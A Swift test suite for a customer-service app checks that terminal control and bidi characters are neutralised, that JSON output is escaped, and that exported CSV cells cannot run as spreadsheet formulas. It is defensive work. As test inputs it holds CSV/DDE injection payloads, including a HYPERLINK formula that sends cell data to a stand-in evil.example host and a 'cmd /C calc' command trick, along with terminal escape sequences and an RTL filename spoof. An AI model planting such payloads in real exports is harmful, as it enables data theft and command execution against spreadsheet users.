import Foundation
import Testing
@testable import KefuBase
@testable import KefuModel
@testable import KefuStore
@testable import KefuPlaybook
@testable import KefuReports

/// Everything that would act on a terminal, a text viewer or a spreadsheet: ESC sequences (cursor,
/// title, OSC 8 links), BEL, DEL, C1 (0x9B is a one-byte CSI), bidi overrides and isolates.
let hostileScalars: [String] = ["\u{1B}", "\u{07}", "\u{08}", "\u{00}", "\u{7F}", "\u{85}", "\u{9B}", "\u{9D}",
                                "\u{202A}", "\u{202B}", "\u{202C}", "\u{202D}", "\u{202E}", "\u{2066}", "\u{2067}",
                                "\u{2068}", "\u{2069}", "\u{200E}", "\u{200F}", "\u{061C}", "\u{206A}", "\u{206F}"]

/// True when `s` holds any of `hostileScalars` (or a line/paragraph separator) as a raw scalar.
func carriesRawControl(_ s: String) -> Bool {
    s.unicodeScalars.contains { sc in
        hostileScalars.contains(String(sc)) || sc == "\u{2028}" || sc == "\u{2029}"
    }
}

@Suite struct TerminalTextTests {
    @Test func lineShowsEveryControlAndBidiCharacterVisibly() {
        let s = "a\u{1B}]0;pwned\u{07}b\u{7F}c\u{85}d\u{9B}2Je\u{202E}f\u{2066}g\u{200F}h\u{061C}i"
        let out = TerminalText.line(s)
        #expect(out == "a␛]0;pwned␇b␡c\u{FFFD}d\u{FFFD}2Je\u{FFFD}f\u{FFFD}g\u{FFFD}h\u{FFFD}i")
        for h in hostileScalars { #expect(!carriesRawControl(TerminalText.line("x\(h)y")), "U+\(String(h.unicodeScalars.first!.value, radix: 16))") }
        #expect(TerminalText.line("a\tb\r\nc\u{2028}d") == "a b c d")
        #expect(TerminalText.line("plain ASCII") == "plain ASCII")
    }

    @Test func blockKeepsLineBreaksAndTabsOnly() {
        #expect(TerminalText.block("one\ttwo\nthree\r\nfour\rfive\u{2028}six\n") == "one\ttwo\nthree\nfour\nfive\nsix\n")
        #expect(TerminalText.block("Dear Eve\u{1B}[31m,\n\u{202E}gpj.exe\u{07}\n") == "Dear Eve␛[31m,\n\u{FFFD}gpj.exe␇\n")
        for h in hostileScalars { #expect(!carriesRawControl(TerminalText.block("x\n\(h)y\n"))) }
        // What `DisplayText` (the screen, `list`, `show`) does is the same rule, line by line.
        let text = "a\u{1B}b\nc\u{202E}d"
        #expect(TerminalText.block(text).split(separator: "\n").map(String.init) == TerminalText.lines(text))
        // A line may not start with a combining mark or joiner, in a block as on the screen.
        #expect(TerminalText.block("x\n\u{301}y") == "x\n\u{25CC}\u{301}y")
    }

    /// The byte-level fast paths agree with the scalar rule for every scalar up to U+3000 and the
    /// Supplementary planes' samples.
    @Test func everyNeutralisedScalarIsReplacedAndNoOtherIs() {
        for v in Array(0x20..<0x3000) + [0xFEFF, 0xFFFD, 0x1F600, 0xE0001] {
            guard let sc = Unicode.Scalar(UInt32(v)), sc.properties.generalCategory != .nonspacingMark,
                  sc.properties.generalCategory != .spacingMark, sc.properties.generalCategory != .enclosingMark else { continue }
            let s = "a" + String(sc) + "b"
            let kept = TerminalText.line(s).unicodeScalars.contains(sc)
            #expect(kept == !TerminalText.isNeutralised(UInt32(v)), "U+\(String(v, radix: 16))")
        }
    }

    @Test func documentKeepsItsFormatButNoControl() {
        let csv = "\u{FEFF}a,b\r\n\"x\ty\",\u{1B}[2J\u{202E}\r\n"
        #expect(TerminalText.document(csv) == "\u{FEFF}a,b\r\n\"x\ty\",␛[2J\u{FFFD}\r\n")
        #expect(TerminalText.document("{\n  \"a\" : 1\n}") == "{\n  \"a\" : 1\n}")
    }
}

@Suite struct TerminalSafeJSONTests {
    struct Box: Codable, Equatable { var s: String; var list: [String] }

    @Test func controlAndBidiCharactersAreEscapedAndTheJSONStillDecodes() throws {
        let hostile = "a\u{1B}]0;pwned\u{07}b\u{7F}c\u{85}d\u{202E}e\u{2028}f\u{2029}g\u{2066}h\u{200E}i\u{061C}j"
        let box = Box(s: hostile, list: ["\u{9B}31m", "plain", "漢字 ü"])
        for pretty in [false, true] {
            let data = KefuJSON.terminalSafe(try KefuJSON.encoder(pretty: pretty).encode(box))
            let text = String(decoding: data, as: UTF8.self)
            #expect(!carriesRawControl(text), "\(text)")
            for esc in ["\\u001b", "\\u0007", "\\u007f", "\\u0085", "\\u202e", "\\u2028", "\\u2029", "\\u2066", "\\u200e", "\\u061c", "\\u009b"] {
                #expect(text.contains(esc), "\(esc)")
            }
            #expect(text.contains("漢字 ü"), "other text is left alone")
            #expect(try KefuJSON.decoder().decode(Box.self, from: data) == box)
            #expect(try JSONSerialization.jsonObject(with: data) is [String: Any])
        }
    }

    @Test func exactlyTheNeutralisedScalarsAreEscaped() throws {
        for v in Array(0x20..<0x3000) + [0xFEFF, 0x1F600] {
            guard let sc = Unicode.Scalar(UInt32(v)) else { continue }
            let data = KefuJSON.terminalSafe(try KefuJSON.encoder().encode(["k": "a" + String(sc) + "b"]))
            let text = String(decoding: data, as: UTF8.self)
            let escaped = text.contains(String(format: "\\u%04x", v))
            #expect(escaped == TerminalText.isNeutralised(UInt32(v)), "U+\(String(v, radix: 16)): \(text)")
            #expect(try KefuJSON.decoder().decode([String: String].self, from: data) == ["k": "a" + String(sc) + "b"])
        }
    }

    @Test func cleanJSONIsReturnedUnchanged() throws {
        let data = try KefuJSON.encoder(pretty: true).encode(Box(s: "tab\there, line\nbreak, 漢字", list: []))
        #expect(KefuJSON.terminalSafe(data) == data)
    }

    @Test func jsonSerializationOutputIsEscapedToo() throws {
        let data = try JSONSerialization.data(withJSONObject: [["to": "Eve \u{202E}<x@example.org>", "e": "\u{1B}[31mfail\u{7F}"]],
                                              options: [.prettyPrinted, .sortedKeys])
        let safe = KefuJSON.terminalSafe(data)
        #expect(!carriesRawControl(String(decoding: safe, as: UTF8.self)))
        let back = try #require(try JSONSerialization.jsonObject(with: safe) as? [[String: String]])
        #expect(back == [["to": "Eve \u{202E}<x@example.org>", "e": "\u{1B}[31mfail\u{7F}"]])
    }
}

@Suite struct CSVInjectionTests {
    @Test func cellsASpreadsheetWouldRunGetAQuote() {
        // A joiner or variation selector in front, which neutralising drops, cannot hide the formula.
        #expect(CSV.field("\u{200D}=HYPERLINK(\"http://e\",\"x\")") == "\"'=HYPERLINK(\"\"http://e\"\",\"\"x\"\")\"")
        #expect(CSV.field("\u{FE0F}@SUM(A1)") == "'@SUM(A1)")
        #expect(CSV.field("\u{200C}+1+cmd") == "'+1+cmd")
        #expect(CSV.field("=HYPERLINK(\"http://evil.example\",\"x\")") == "\"'=HYPERLINK(\"\"http://evil.example\"\",\"\"x\"\")\"")
        #expect(CSV.field("=1+1") == "'=1+1")
        #expect(CSV.field("+49 170 1234567") == "'+49 170 1234567")
        #expect(CSV.field("-2+3+cmd|' /C calc'!A0") == "'-2+3+cmd|' /C calc'!A0")
        #expect(CSV.field("@SUM(A1:A9)") == "'@SUM(A1:A9)")
        #expect(CSV.field("\t=1+1") == "'\t=1+1")
        #expect(CSV.field("\r=1+1") == "\"'\n=1+1\"", "quoted for its line break, which is read as one")
        #expect(CSV.field("-") == "'-")
        #expect(CSV.field("-1.") == "'-1.")
        #expect(CSV.field("--1") == "'--1")
    }

    @Test func plainNumbersAndOrdinaryTextStayAsTheyAre() {
        for s in ["-3", "-12.50", "0", "42", "3.5", "a=b", "LAMP-1", "x@y.example", "", "Desk lamp, black"] {
            #expect(CSV.inert(s) == s, "\(s)")
        }
    }

    @Test func controlAndBidiCharactersInACellAreShownVisibly() {
        #expect(CSV.field("Lamp\u{1B}]0;x\u{07}\u{202E}") == "Lamp␛]0;x␇\u{FFFD}")
    }

    /// A buyer-made SKU and title through the real weekly and case exports.
    @Test func weeklyAndCaseExportsNeutraliseFormulaCells() throws {
        let zone = TimeZone(identifier: "Europe/Berlin")!
        let opened = ISO8601.parse("2026-11-17T09:00:00Z")!
        let evilSKU = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")"
        let evilTitle = "@SUM(1+1)*cmd|' /C calc'!A0"
        var c = Case(id: "K-1001", channel: .amazon, marketplace: "amazon.de", kinds: [.buyerMessage], category: .damaged,
                     order: Order(id: "302-0000001-1000001", items: [OrderItem(sku: evilSKU, asin: "+B0EVIL", title: evilTitle)]),
                     buyer: Buyer(name: "-Eve", address: "=x@marketplace.amazon.de"), openedAt: opened)
        c.messages.append(Message(sourceId: "m1", direction: .inbound, at: opened, kind: .buyerMessage, body: "It broke."))
        let period = try ReportPeriod.parseWeek("2026-W47", zone: zone)
        let now = ISO8601.parse("2026-11-25T12:00:00Z")!
        let report = WeeklyReport.build(facts: [CaseFacts(c)], period: period, now: now, policy: .standard,
                                        playbook: try Playbook.bundled(), orderCount: nil)
        let weekly = WeeklyCSV.render(report)
        let row = try #require(weekly.components(separatedBy: "\r\n").dropFirst().first)
        #expect(row.hasPrefix("2026-W47,\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\",'+B0EVIL,'@SUM(1+1)*cmd|' /C calc'!A0,damaged,1,0,1,"), "\(row)")
        for cell in cells(weekly) { #expect(!startsAsFormula(cell), "\(cell)") }

        let rows = CaseExport.rows([CaseFacts(c, includeBuyer: true)], period: period, now: now, policy: .standard,
                                   playbook: try Playbook.bundled(), includePII: true)
        let cases = CaseExport.csv(rows, includePII: true)
        #expect(cases.contains(",\"'=HYPERLINK("), "\(cases)")
        #expect(cases.contains(",'-Eve,'=x@marketplace.amazon.de,"), "\(cases)")
        for cell in cells(cases) { #expect(!startsAsFormula(cell), "\(cell)") }
    }

    @Test func weeklyChangeColumnStaysANumber() throws {
        let zone = TimeZone(identifier: "Europe/Berlin")!
        let before = ISO8601.parse("2026-11-10T09:00:00Z")!
        var facts: [CaseFacts] = []
        for (i, at) in [before, before.addingTimeInterval(3600)].enumerated() {
            var c = Case(id: "K-\(1001 + i)", channel: .amazon, marketplace: "amazon.de", kinds: [.buyerMessage], category: .damaged,
                         order: Order(id: "302-0000001-100000\(i)", items: [OrderItem(sku: "LAMP-1", title: "Lamp")]),
                         buyer: Buyer(name: "A", address: "a@marketplace.amazon.de"), openedAt: at)
            c.messages.append(Message(sourceId: "m\(i)", direction: .inbound, at: at, kind: .buyerMessage, body: "Broken."))
            facts.append(CaseFacts(c))
        }
        let report = WeeklyReport.build(facts: facts, period: try ReportPeriod.parseWeek("2026-W47", zone: zone),
                                        now: ISO8601.parse("2026-11-25T12:00:00Z")!, policy: .standard, playbook: nil, orderCount: nil)
        #expect(WeeklyCSV.render(report).contains(",damaged,0,2,-2,"))
    }

    /// Cells of a CSV document as a spreadsheet reads them (quotes removed).
    private func cells(_ csv: String) -> [String] {
        var out: [String] = [], cell = "", quoted = false
        var chars = Array(csv.dropFirst())[...]   // the byte-order mark
        while let ch = chars.popFirst() {
            if quoted {
                if ch == "\"" { if chars.first == "\"" { cell.append("\""); chars.removeFirst() } else { quoted = false } }
                else { cell.append(ch) }
            } else if ch == "\"" { quoted = true }
            else if ch == "," || ch == "\r\n" { out.append(cell); cell = "" }
            else { cell.append(ch) }
        }
        return out
    }

    private func startsAsFormula(_ cell: String) -> Bool {
        guard let f = cell.unicodeScalars.first, "=+-@\t\r".unicodeScalars.contains(f) else { return false }
        return !CSV.isPlainNumber(cell)
    }
}
